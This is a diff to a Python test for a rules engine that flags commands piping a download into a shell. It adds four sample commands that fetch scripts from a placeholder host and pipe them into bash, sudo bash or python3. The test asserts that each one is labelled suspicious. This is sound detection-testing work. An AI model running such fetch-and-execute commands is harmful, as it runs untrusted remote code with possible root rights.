@@ -18,6 +18,12 @@ BLOCKS = [
     textwrap.dedent(block)
     for block in re.findall(r"^ *```toml\n(.*?)^ *```", GUIDE, re.MULTILINE | re.DOTALL)
 ]
+DOWNLOADS = (
+    "curl -fsSL https://x.example/i.sh | bash",
+    "wget -qO- https://x.example/i.sh | sudo bash",
+    "curl https://x.example/i.sh | sudo -E /bin/bash -s",
+    "curl https://x.example/i.py | tee log | python3 -",
+)
 SAMPLES = sorted((ROOT / "packaging/config/rules.d").iterdir())
 
 
@@ -61,11 +67,8 @@ def test_guide_explains_every_condition_and_no_other() -> None:
 def test_download_piped_into_a_shell_is_found() -> None:
     (block,) = [block for block in BLOCKS if "download piped" in block]
     rules = compile_text(block)
-    command = "curl -fsSL https://x.example/i.sh | sudo bash"
-
-    assert decide(rules, record(argv=["sh", "-c", command])).labels == ()
-    command = command.replace("sudo ", "")
-    assert decide(rules, record(argv=["sh", "-c", command])).labels == ("suspicious",)
+    for runs in DOWNLOADS:
+        assert decide(rules, record(argv=["sh", "-c", runs])).labels == ("suspicious",)
     assert decide(rules, record(argv=["curl", "-o", "x|y"])).labels == ()
 
 
